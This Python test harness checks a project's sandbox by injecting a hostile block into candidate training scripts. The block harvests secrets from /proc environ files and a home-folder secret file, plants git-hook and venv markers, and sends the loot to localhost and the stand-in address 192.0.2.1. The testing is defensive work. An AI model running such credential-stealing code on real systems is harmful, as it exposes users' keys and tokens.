"""A hostile ``train_gpt.py`` against every path that executes candidate code (issue 13 item 7).

The harness is shared by ``tests/sandbox/test_attack.py`` and ``benchmarks/sandbox_attack.py``.

For one *path* it starts an **orchestrator** process — pgolf as the workflows run it, with canary
secrets in its *initial* environment (what ``/proc/PID/environ`` shows) and ``HOME`` pointing at
a folder holding a canary file — which drives that path on a research repository whose training
scripts carry :func:`hostile_block`. The block, running wherever the path runs candidate code:

* reads ``/proc/*/environ`` and ``cmdline`` of every process it can see and every ancestor's
  (walking ``PPid``), its own environment, and ``$HOME/secret.txt`` of the orchestrator;
* writes marker files into the orchestrator's ``$HOME``, the checkout, ``.git/hooks`` and the
  interpreter's ``.venv``;
* connects to a listener on the host's 127.0.0.1 and to an outside address (192.0.2.1, TEST-NET-1,
  so that even a failed wall sends nothing to a real service);
* and puts whatever it found everywhere the orchestrator looks: stdout, stderr, files in its
  working directory (``final_model.*``, ``logs/``, the verdict file) and symlinks to the canary
  file that a careless copy-back would follow.

:func:`leaks` then counts the canary values found in the orchestrator's output and result, in any
file under the watched folders, and in what the listener received; :func:`outside_changes` lists
every marker that appeared.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import traceback
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
CANARY_NAMES = ("ANTHROPIC_API_KEY", "GITHUB_TOKEN", "RUNPOD_API_KEY", "GH_APP_PRIVATE_KEY")
PATHS = (
    "validate-import",
    "validate-parity",
    "validate-smoke",
    "smoke-dataset",
    "promote-parity-gate",
    "promote-gate-job",
    "local-tier",
    "local-baseline",
    "local-pod",
    "experimenter-check",
)
# Controls: the same attack without the wall (expected to leak; the tests assert it does).
CONTROLS = ("control-plain-subprocess", "control-best-effort-unisolated")
FUTURE = "from __future__ import annotations\n"
METRICS = (
    "print('step:1/1 train_loss:3.0000 train_time:10ms step_avg:10.00ms', flush=True)\n"
    "print('Total submission size int8+zlib: 15000 bytes', flush=True)\n"
    "print('final_int8_zlib_roundtrip_exact val_loss:2.07269931 val_bpb:1.22436570', flush=True)\n"
)


def hostile_block(port: int, home: Path, repo: Path, venv: Path, *, fail: bool = False) -> str:
    """Module-level code that attacks from wherever it runs (see the module docstring). With
    ``fail`` it ends by raising its report, so that the path's refusal message carries it back
    (evidence that the attack ran, through the only channel the path has)."""
    targets = [
        str(home / "PWNED-home"),
        str(repo / "PWNED-checkout"),
        str(repo / ".git" / "hooks" / "post-checkout"),
        str(venv / "PWNED-venv"),
        str(venv / "bin" / "pgolf-pwned"),
    ]
    return f"""
# ---- hostile block (tests/sandbox/attack.py) ----
import os as _o, socket as _s, sys as _y
_loot = []
def _grab(_p):
    try:
        with open(_p, "rb") as _f:
            _d = _f.read()
    except OSError:
        return
    if b"canary-" in _d:
        _loot.append(_p + ": " + _d.decode("latin-1"))
try:
    _pids = [p for p in _o.listdir("/proc") if p.isdigit()]
except OSError:
    _pids = []
for _p in _pids:
    _grab("/proc/" + _p + "/environ")
    _grab("/proc/" + _p + "/cmdline")
_pid = _o.getpid()
while _pid > 1:
    _grab("/proc/%d/environ" % _pid)
    try:
        _st = open("/proc/%d/status" % _pid).read()
        _pid = int(_st.split("PPid:")[1].split()[0])
    except Exception:
        break
_grab({str(home / "secret.txt")!r})
_grab(_o.path.expanduser("~/secret.txt"))
_loot += [k + "=" + v for k, v in _o.environ.items() if "canary-" in v]
_msg = "LOOT:" + repr(_loot)
for _t in {targets!r}:
    try:
        with open(_t, "w") as _f:
            _f.write("#!/bin/sh\\n# " + _msg + "\\n")
    except OSError:
        pass
for _a in (("127.0.0.1", {port}), ("192.0.2.1", 9)):
    try:
        _c = _s.create_connection(_a, timeout=2)
        _c.sendall(_msg.encode())
        _c.close()
    except OSError:
        pass
print(_msg, flush=True)
print(_msg, file=_y.stderr, flush=True)
for _n in ("loot.txt", "logs/loot.txt", "final_model.loot.ptz", "verdict.json", "out/tokenizers/loot.model"):
    try:
        _o.makedirs(_o.path.dirname(_n) or ".", exist_ok=True)
        with open(_n, "w") as _f:
            _f.write(_msg)
    except OSError:
        pass
for _n in ("final_model.link.ptz", "logs/link.txt"):
    try:
        _o.symlink({str(home / "secret.txt")!r}, _n)
    except OSError:
        pass
if {fail!r}:
    raise RuntimeError(_msg)
# ---- end of hostile block ----
"""


def with_block(script: str, block: str) -> str:
    """``script`` with ``block`` right after its ``from __future__`` line (so it runs on import)."""
    if FUTURE in script:
        return script.replace(FUTURE, FUTURE + block, 1)
    return block + script


class Listener:
    """A TCP listener on 127.0.0.1 recording every connection and the bytes received."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.received = b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(2)
            try:
                while chunk := conn.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@dataclass
class Scene:
    """Everything one attacked path needs: the folders, canaries and the research repository."""

    base: Path
    data: Path  # the tiny dataset (datasets/, tokenizers/)
    port: int
    canaries: dict[str, str] = field(default_factory=dict)

    @property
    def home(self) -> Path:
        return self.base / "home"

    @property
    def repo(self) -> Path:
        return self.base / "repo"

    @property
    def venv(self) -> Path:
        return Path(sys.prefix).resolve()

    def markers(self) -> list[Path]:
        return [
            self.home / "PWNED-home",
            self.repo / "PWNED-checkout",
            self.repo / ".git" / "hooks" / "post-checkout",
            self.venv / "PWNED-venv",
            self.venv / "bin" / "pgolf-pwned",
        ]


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, capture_output=True, text=True, check=True).stdout.strip()


def make_scene(base: Path, data: Path, port: int) -> Scene:
    """Canaries, the orchestrator's HOME with a canary file, and a research repository whose base
    commit has the real training scripts (the hostile candidate is made by each path)."""
    scene = Scene(base, data, port, {n: f"canary-{n.lower()}-{secrets.token_hex(8)}" for n in CANARY_NAMES})
    scene.home.mkdir(parents=True)
    (scene.home / "secret.txt").write_text("gh_pat=" + scene.canaries["GITHUB_TOKEN"] + "\n")
    repo = scene.repo
    (repo / "training").mkdir(parents=True)
    for name in ("train_gpt.py", "train_gpt_mlx.py", "prepare_data.py"):
        shutil.copyfile(ROOT / "training" / name, repo / "training" / name)
    (repo / ".gitignore").write_text(".pgolf/\n")
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "base")
    return scene


def orchestrator_env(scene: Scene) -> dict[str, str]:
    """The orchestrator's initial environment: what an Actions job holding the keys would have."""
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(scene.home),
        "LANG": "C.UTF-8",
        "PYTHONPATH": str(ROOT),
        "GIT_AUTHOR_NAME": "pgolf-test",
        "GIT_AUTHOR_EMAIL": "test@pgolf.invalid",
        "GIT_COMMITTER_NAME": "pgolf-test",
        "GIT_COMMITTER_EMAIL": "test@pgolf.invalid",
        "GIT_CONFIG_GLOBAL": str(scene.home / "gitconfig"),
        "OMP_NUM_THREADS": "2",
    }
    env.update(scene.canaries)
    return env


@dataclass
class Attack:
    path: str
    returncode: int
    stdout: str
    stderr: str
    result: dict[str, Any]


def attack(scene: Scene, path: str, *, timeout: float = 600) -> Attack:
    """Run ``path`` in a fresh orchestrator process (``python -m tests.sandbox.attack``)."""
    cfg = scene.base / f"{path}.json"
    cfg.write_text(
        json.dumps({"path": path, "base": str(scene.base), "data": str(scene.data), "port": scene.port})
    )
    proc = subprocess.run(
        [sys.executable, "-m", "tests.sandbox.attack", str(cfg)],
        cwd=ROOT,
        env=orchestrator_env(scene),
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    out = scene.base / f"{path}.result.json"
    result = json.loads(out.read_text()) if out.is_file() else {}
    return Attack(path, proc.returncode, proc.stdout, proc.stderr, result)


def _scan_files(folder: Path, needles: list[bytes]) -> dict[str, list[str]]:
    """Canary value → files under ``folder`` holding it (symlinks not followed)."""
    hits: dict[str, list[str]] = {}
    if not folder.exists():
        return hits
    for dirpath, _dirs, files in os.walk(folder):
        for name in files:
            p = Path(dirpath) / name
            if p.is_symlink() or not p.is_file():
                continue
            try:
                data = p.read_bytes()
            except OSError:
                continue
            for n in needles:
                if n in data:
                    hits.setdefault(n.decode(), []).append(str(p))
    return hits


def leaks(
    scene: Scene, run: Attack, listener: Listener, *, exclude: tuple[Path, ...] = ()
) -> dict[str, list[str]]:
    """Canary value → where it was found (outputs, result, files under the scene, the listener).
    The canary file itself and the orchestrator's own config are not counted."""
    needles = [v.encode() for v in scene.canaries.values()]
    found: dict[str, list[str]] = {}
    blob = {"stdout": run.stdout, "stderr": run.stderr, "result": json.dumps(run.result)}
    for where, text in blob.items():
        for n in needles:
            if n.decode() in text:
                found.setdefault(n.decode(), []).append(where)
    skip = {scene.home / "secret.txt", *exclude}
    for value, files in _scan_files(scene.base, needles).items():
        files = [f for f in files if Path(f) not in skip]
        if files:
            found.setdefault(value, []).extend(files)
    for n in needles:
        if n in listener.received:
            found.setdefault(n.decode(), []).append("127.0.0.1 listener")
    return found


def outside_changes(scene: Scene) -> list[str]:
    return [str(p) for p in scene.markers() if p.exists() or p.is_symlink()]


def cleanup_markers(scene: Scene) -> None:
    for p in scene.markers():
        if p.is_symlink() or p.is_file():
            p.unlink()


# ----------------------------------------------------------------------------- the orchestrator
def _commit_hostile(scene: Scene, files: dict[str, str], message: str) -> str:
    repo = scene.repo
    for rel, text in files.items():
        (repo / rel).write_text(text)
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", message)
    return _git(repo, "rev-parse", "HEAD")


def _run_path(path: str, scene: Scene) -> dict[str, Any]:
    from bot.agent import gitops
    from bot.agent.validate import (
        Candidate,
        Validator,
        check_import,
        check_parity,
        check_patch,
        check_scope,
        check_smoke,
        check_static,
        tiny_dataset,
    )
    from bot.compute.gates import default_parity_gate
    from bot.config import load_settings
    from bot.training.local import run_baseline, run_local

    repo = scene.repo
    block = hostile_block(
        scene.port,
        scene.home,
        repo,
        scene.venv,
        fail=path not in ("local-tier", "local-baseline", "local-pod"),
    )
    # The AST rule is switched off: the sandbox alone is measured.
    settings = load_settings(
        repo,
        env={},
        overrides={"candidate_ast_rule": "false", "sandbox": "required", "local_iterations": "1"},
    )
    scripts = ("training/train_gpt.py", "training/train_gpt_mlx.py")
    hostile = {rel: with_block((repo / rel).read_text(), block) for rel in scripts}
    if path.startswith("validate-"):
        base = _git(repo, "rev-parse", "HEAD")
        originals = {rel: gitops.show_file(repo, base, rel) for rel in scripts}
        tree = gitops.build_tree(repo, base, hostile)
        cand = Candidate(base, dict(hostile), originals, gitops.diff_trees(repo, base, tree))
        third = {
            "validate-import": check_import,
            "validate-parity": check_parity,
            "validate-smoke": check_smoke,
        }
        checks = [check_scope, check_patch, check_static, third[path]]
        report = Validator(repo, settings, checks=checks, smoke_data=scene.data).validate(cand)
        return {"checks": report.to_list(), "message": report.message()}
    if path == "experimenter-check":  # `pgolf experiment check`, as experimenter.yml's check jobs run it
        return _experimenter_check(scene, repo)
    if path == "smoke-dataset":
        (repo / "training" / "prepare_data.py").write_text(with_block("", block))
        dest = scene.base / "smoke-cache"
        try:
            tiny_dataset(dest, repo, settings)
            return {"built": True}
        except Exception as exc:
            return {"error": f"{type(exc).__name__}: {exc}"}
    if path == "promote-parity-gate":
        sha = _commit_hostile(scene, hostile, "hostile experiment")
        try:
            note = default_parity_gate(settings)(repo, sha)
            return {"passed": note}
        except Exception as exc:
            return {"refused": f"{type(exc).__name__}: {exc}"}
    if path == "promote-gate-job":  # promote.yml's gate job: `pgolf promote gate` (bot.compute.split)
        from bot.compute.split import Plan, run_gate

        sha = _commit_hostile(scene, hostile, "hostile experiment")
        return run_gate(repo, settings, Plan(pr=1, sha=sha, seeds=[1], actor="attack-test"))
    if path in ("local-tier", "local-baseline"):
        standalone = with_block(FUTURE + "import os\n", block) + METRICS
        standalone += "open('final_model.int8.ptz', 'wb').write(b'weights')\n"
        _commit_hostile(scene, {"training/train_gpt.py": standalone}, "hostile local run")
        kw: dict[str, Any] = {
            "backend": "torch",
            "data_path": scene.data / "datasets" / "fineweb10B_sp1024",
            "tokenizer_path": scene.data / "tokenizers" / "fineweb_1024_bpe.model",
        }
        if path == "local-tier":
            out = run_local(repo, settings, iterations=1, **kw)
            res = out.to_dict()
        else:
            res = run_baseline(repo, settings, seeds=1, iterations=1, **kw).to_dict()
        runs = repo / ".pgolf" / "runs"
        res["run_files"] = sorted(str(p.relative_to(runs)) for p in runs.rglob("*")) if runs.is_dir() else []
        res["ledger"] = (repo / "results.tsv").read_text() if (repo / "results.tsv").is_file() else ""
        res["logs"] = [p.read_text(errors="replace") for p in sorted(runs.rglob("output.log"))]
        return res
    if path == "local-pod":  # Tier 2 on the local pod provider (the demo; a user's own GPU box)
        from bot.compute.factory import make_provider
        from bot.compute.gates import operator_approval, waived_parity_gate
        from bot.compute.promote import promote

        standalone = with_block(FUTURE + "import os\n", block) + METRICS
        standalone += "open('final_model.int8.ptz', 'wb').write(b'weights')\n"
        sha = _commit_hostile(scene, {"training/train_gpt.py": standalone}, "hostile promotion")
        pod = load_settings(
            repo,
            env={},
            overrides={
                "sandbox": "required",
                "pod_provider": "local",
                "pod_setup_command": "true",
                "pod_train_command": f"{sys.executable} {{script}}",
                "max_wallclock_seconds": "30",
                "pod_eval_slack_seconds": "30",
                "tier2_min_interval_seconds": "0",
            },
        )
        res = promote(
            repo,
            pod,
            provider=make_provider(pod, repo),
            pr=1,
            sha=sha,
            trust=operator_approval(sha, "attack-test"),
            parity_gate=waived_parity_gate("the promote-parity-gate path attacks the gate"),
        )
        out = res.to_dict()
        out["logs"] = [p.read_text(errors="replace") for p in sorted((repo / ".pgolf").rglob("*.log"))]
        return out
    if path in CONTROLS:  # the same attack without the wall: proves it is live
        from bot.safeenv import clean_env
        from bot.sandbox import Capability, Sandbox

        fake_venv = scene.base / "venv-control"  # never the real .venv, even here
        script = scene.base / "control.py"
        script.write_text(hostile_block(scene.port, scene.home, repo, fake_venv) + METRICS)
        if path == "control-plain-subprocess":  # what the code did before bot.sandbox
            work = scene.base / "control-work"
            work.mkdir()
            proc = subprocess.run(
                [sys.executable, str(script)], env=clean_env(), cwd=work, capture_output=True, text=True
            )
            return {"stdout": proc.stdout, "stderr": proc.stderr}
        with Sandbox("best-effort", capability=Capability.unisolated("forced by the test")) as box:
            run = box.run([sys.executable, str(script)], timeout=120)
            return {"mode": box.mode, "stdout": run.stdout, "stderr": run.stderr}
    raise SystemExit(f"unknown path {path}")


def _experimenter_check(scene: Scene, repo: Path) -> dict[str, Any]:
    """Two rounds through the real CLI: one whose hostile block lets every check run (import,
    parity and the smoke run all execute it), one whose block raises so that the verdict carries
    its report back (evidence that it ran). The bundles are what a propose job would upload."""
    from click.testing import CliRunner

    from bot.agent import gitops, stages
    from bot.cli import cli

    base = _git(repo, "rev-parse", "HEAD")
    scripts = ("training/train_gpt.py", "training/train_gpt_mlx.py")
    originals = {rel: gitops.show_file(repo, base, rel) for rel in scripts}
    out: dict[str, Any] = {}
    for name, fail in (("runs-everything", False), ("reports-back", True)):
        block = hostile_block(scene.port, scene.home, repo, scene.venv, fail=fail)
        bundle = stages.Bundle(
            round=1,
            status="candidate",
            pick={"item_id": "attack", "reason": ""},
            proposer="anthropic:attack",
            base_sha=base,
            files={rel: with_block(originals[rel], block) for rel in scripts},
            originals=originals,
        )
        folder = scene.base / "stages" / name
        digest = stages.write_bundle(folder / "proposal-1", bundle)
        res = CliRunner().invoke(
            cli,
            [
                "--repo", str(repo),
                "-c", "candidate_ast_rule=false",  # the sandbox alone is measured
                "-c", "sandbox=required",
                "-c", f"experimenter_smoke_data={scene.data}",
                "experiment", "check",
                "--in", str(folder / "proposal-1"), "--digest", digest, "--out", str(folder / "verdict-1"),
            ],
        )  # fmt: skip
        verdict_file = folder / "verdict-1" / "verdict.json"
        out[name] = {
            "exit": res.exit_code,
            "output": res.output,
            "exception": repr(res.exception) if res.exception and res.exit_code else "",
            "verdict": json.loads(verdict_file.read_text()) if verdict_file.is_file() else None,
        }
    return out


def main(cfg_path: str) -> int:
    cfg = json.loads(Path(cfg_path).read_text())
    scene = Scene(Path(cfg["base"]), Path(cfg["data"]), int(cfg["port"]))
    try:
        result = _run_path(cfg["path"], scene)
    except Exception as exc:
        result = {"exception": f"{type(exc).__name__}: {exc}", "traceback": traceback.format_exc()}
    (scene.base / f"{cfg['path']}.result.json").write_text(json.dumps(result, default=str))
    print(json.dumps(result, default=str)[:20000])
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1]))
